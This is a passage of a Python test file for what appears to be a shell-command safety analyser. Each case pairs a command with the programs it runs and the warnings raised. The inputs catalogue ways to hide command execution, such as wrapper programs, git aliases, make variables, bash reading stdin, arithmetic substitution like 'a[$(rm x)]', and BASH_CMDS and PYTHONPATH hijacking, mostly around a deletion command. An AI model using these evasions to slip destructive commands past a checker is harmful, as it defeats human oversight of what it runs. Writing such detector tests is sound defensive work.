            ("((PATH=10)); ls", ["ls"]),
            ("let PATH=10; ls", ["let PATH=10", "ls"]),
            ("((i = 0, PATH = 10)); ls", ["ls"]),
            ("for ((PATH=10;;)); do ls; done", ["ls"]),
            (": $((PATH=10)); ls", [": ~$((PATH=10))", "ls"]),
        )
    ),
    Case(
        "python3 -mtimeit 'x'",
        ["python3 -mtimeit x"],
        ["python3 -m timeit runs code that is not read"],
    ),
    Case("setarch -R rm x", ["setarch > rm x"]),
    Case("setarch x86_64 -R rm x", ["setarch > rm x"]),
    Case("linux64 rm x", ["linux64 > rm x"]),
    Case(
        "/lib64/ld-linux-x86-64.so.2 --library-path . /bin/rm x",
        ["ld-linux-x86-64.so.2 > rm x"],
    ),
    Case(
        "prlimit --nofile=10 rm x",
        ["prlimit > rm x"],
        ["prlimit has an option that is not known: --nofile"],
    ),
    Case("setpriv --reuid 1 rm x", ["setpriv > rm x"]),
    Case("ssh-agent rm x", ["ssh-agent > rm x"]),
    Case("uv run --with a rm x", ["uv run --with a rm x", "uv > rm x"]),
    Case("uv run -m pytest -q", ["uv run -m pytest -q", "uv > python3 -m pytest -q"]),
    Case("npx --yes rm x", ["npx > rm x"]),
    Case("poetry run rm x", ["poetry run rm x", "poetry > rm x"]),
    Case("perf stat -e x rm x", ["perf stat -e x rm x", "perf > rm x"]),
    Case("runuser -u a -- rm x", ["runuser -u a -- rm x", "runuser > rm x"]),
    Case("sg a 'rm x'", ["sg a 'rm x'", "sg > rm x"]),
    Case("su a", ["su a"], ["su starts a shell"]),
    Case(
        "script -qc 'rm x' f",
        ["script -qc 'rm x' f", "script > rm x"],
        ["script is told to run a program"],
    ),
    Case("script f", ["script f"], ["script starts a shell, or a program"]),
    Case(
        "env -S 'sh -c' 'rm x'",
        ["env > rm x"],
        ["env puts words of its own before a command"],
    ),
    Case("cmake -E env A=1 rm x", ["cmake -E env A=1 rm x", "cmake > rm x"]),
    Case(
        "coreutils --coreutils-prog=rm x",
        ["coreutils --coreutils-prog=rm x", "coreutils > rm x"],
    ),
    Case("sudo -e f", ["sudo -e f"], ["sudo starts an editor"]),
    Case("busybox.static rm x", ["busybox.static > rm x"]),
    Case(
        "bash-static -c 'rm x'",
        ["bash-static > rm x"],
        ["bash-static may be bash by another name"],
    ),
    Case(
        "perl5.36.0 -e 'x'",
        ["perl5.36.0 -e x"],
        ["perl5.36.0 runs code that is not read"],
    ),
    Case(
        "gcc-12 -wrapper rm f.c",
        ["gcc-12 -wrapper rm f.c"],
        ["gcc is told to run other programs: -wrapper"],
    ),
    Case(
        "gtimeout 1 rm x",
        ["gtimeout > rm x"],
        ["gtimeout may be timeout by another name"],
    ),
    Case(
        "git config --file .git/config alias.s '!rm x'",
        ["git config --file .git/config alias.s '!rm x'", "git > rm x"],
        ["git is told to use alias.s, which may run a program"],
    ),
    Case(
        "git send-pack --exec='rm x' a",
        ["git send-pack '--exec=rm x' a", "git > rm x"],
        ["git send-pack is told to run a program"],
    ),
    Case("git s", ["git s"], ["s is no command of git that is known"]),
    Case("git -c core.pager=cat log", ["git -c core.pager=cat log"]),
    Case(
        "make CC='rm x'",
        ["make 'CC=rm x'"],
        ["make is told to run other programs: CC=rm x"],
    ),
    Case("make CC=clang -j4", ["make CC=clang -j4"]),
    Case(
        "make -f /dev/../dev/stdin",
        ["make -f /dev/../dev/stdin"],
        ["make runs what it reads on its standard input"],
    ),
    Case(
        "bash //dev/stdin",
        ["bash //dev/stdin"],
        ["bash runs a script that only running it tells"],
    ),
    Case(
        "sh ../dev/stdin",
        ["sh ../dev/stdin"],
        ["sh runs a script that only running it tells"],
    ),
    Case(
        'awk \'{ print "a;b" > "F" }\' f',
        ['awk \'{ print "a;b" > "F" }\' f'],
        ["awk can run commands or write files"],
    ),
    Case(
        "awk '$1 > 2 { print \"a > b; c\" }' f",
        ["awk '$1 > 2 { print \"a > b; c\" }' f"],
    ),
    Case(
        "BASH_CMDS[ls]=/x",
        [],
        [
            "sets BASH_CMDS, which changes what other programs do",
            "calculates with ls, which may hold a command",
        ],
    ),
    Case(
        "BASH_ALIASES[ls]=x",
        [],
        [
            "sets BASH_ALIASES, which changes what other programs do",
            "calculates with ls, which may hold a command",
        ],
    ),
    Case("PYTHONPATH=.:src python3 x.py", ["PYTHONPATH=.:src python3 x.py"]),
    Case(
        "PYTHONPATH=../x python3 x.py",
        ["PYTHONPATH=../x python3 x.py"],
        ["sets PYTHONPATH, which changes what other programs do"],
    ),
    Case(
        "declare -p; declare -f; declare -f f",
        ["declare -p", "declare -f", "declare -f f"],
    ),
    Case("GIT_PAGER=cat git log", ["GIT_PAGER=cat git log"]),
    Case("[[ -v $x ]]", [], ["tests a name that may hold a command"]),
    Case('[ -v "$x" ]', [], ["tests a name that may hold a command"]),
    Case(
        "[[ 'a[$(rm x)]' -eq 1 ]]", [], ["calculates with text that may hold a command"]
    ),
    Case("[ $x = y ]", [], ["calculates with x, which may hold a command"]),
    Case('[ "$x" -eq 1 ]', []),
    Case("x=1; [ $x -eq 1 ]", []),
    Case(
        'wait -n -p "$x"',
        ['wait -n -p ~"$x"'],
        [
            "wait sets a variable that only running it tells",
            "calculates with x, which may hold a command",
        ],
    ),
    Case("echo ${x:$y}", ["echo ~${x:$y}"], ["it holds syntax that is not understood"]),
    Case(
        "echo ${x:y}", ["echo ~${x:y}"], ["calculates with y, which may hold a command"]
    ),
    Case(
        "echo ${a[$i]}",
        ["echo ~${a[$i]}"],
        ["calculates with i, which may hold a command"],
    ),
    Case("i=1; echo ${a[$i]}", ["echo ~${a[$i]}"]),
    Case(
        "x=1 & echo $((x))",
        ["echo ~$((x))"],
        ["calculates with x, which may hold a command"],
    ),
    Case(
        "if a; then x=1; fi; echo $((x))",
        ["a", "echo ~$((x))"],
        ["calculates with x, which may hold a command"],
    ),
    Case(
        "n=$(wc -l < f); echo $((n + 1))", ["wc -l", "echo ~'$((n + 1))'"], reads=["f"]
    ),
    Case("n=$(cat f | wc -l); [[ $n -gt 3 ]]", ["cat f", "wc -l"]),
    Case(
        "n=$(wc -l f); echo $((n + 1))",
        ["wc -l f", "echo ~'$((n + 1))'"],
        ["calculates with n, which may hold a command"],
    ),
    Case("for i in $(seq 1 3); do echo $((i)); done", ["seq 1 3", "echo ~$((i))"]),
    Case(
        "unset RANDOM", ["unset RANDOM"], ["unset RANDOM makes another variable of it"]
    ),
    Case(
        "unknown-tool sh -c 'rm x'",
        ["unknown-tool sh -c 'rm x'"],
        ["unknown-tool may run another program: sh"],
    ),
    Case("unknown-tool a b", ["unknown-tool a b"]),
    Case("cp /bin/sh x", ["cp /bin/sh x"], ["cp gives another name to /bin/sh"]),
    Case(
        "/proc/self/exe -c x",
        ["exe -c x"],
        ["which program /proc/self/exe is, only running it tells"],
    ),
    Case("RM x", ["RM x"], ["RM may be rm by another name"]),
    Case(
        'python3 -c \'import subprocess; subprocess.run(["git", "push"])\'',
        [
            'python3 -c \'import subprocess; subprocess.run(["git", "push"])\'',
            "python3 > git push",
        ],
    ),
    Case(
        "python3 -c 'import subprocess; subprocess.run([a])'",
        ["python3 -c 'import subprocess; subprocess.run([a])'", "python3 > ?"],
        ['which program "$word" is, only running it tells'],
    ),
    Case(
        "ssh -o SendEnv=x host ls",
        ["ssh -o SendEnv=x host ls", "ssh > ls"],
        ["ssh has a setting that is not known: SendEnv=x"],
    ),
    Case("tar cf a -T f", ["tar cf a -T f"], ["tar reads options from a file"]),
    Case(
        "zip -TT x a b", ["zip -TT x a b", "zip > x"], ["zip is told to run a program"]
    ),
]
